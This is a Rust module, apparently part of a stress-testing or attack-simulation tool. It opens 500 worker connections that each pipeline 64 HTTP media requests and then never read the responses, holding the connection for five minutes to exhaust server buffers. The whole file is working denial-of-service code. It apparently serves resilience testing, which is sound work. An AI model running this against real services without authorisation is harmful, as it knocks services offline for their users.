//! Requests media many times on one connection and takes none of it.

use std::time::Duration;

use tokio::io::AsyncWriteExt;

use crate::{
    attacker::Attacker,
    source::{connect_with_small_buffer, read_to_close, status_of},
};

const WORKERS: u16 = 500;
/// Between connections of a worker.
const PAUSE: Duration = Duration::from_secs(5);
/// Requests on a connection: more than the buffers on both sides hold of the responses.
const REQUESTS: usize = 64;
/// Longer than the attack.
const WAIT: Duration = Duration::from_mins(5);

pub(super) async fn run(attacker: Attacker) {
    attacker
        .repeat(WORKERS, PAUSE, async |worker| {
            let address = attacker.address(worker);
            let Ok(mut stream) = connect_with_small_buffer(address, attacker.api).await else {
                attacker.tally.add("failed to connect");
                return;
            };
            let request =
                format!("GET {} HTTP/1.1\r\nHost: {}\r\n\r\n", attacker.target.media_path, attacker.api);
            if stream.write_all(request.repeat(REQUESTS).as_bytes()).await.is_err() {
                attacker.tally.add(status_of(&read_to_close(&mut stream).await));
                return;
            }
            attacker.tally.add("connections that read nothing");
            tokio::time::sleep(WAIT).await;
        })
        .await;
}
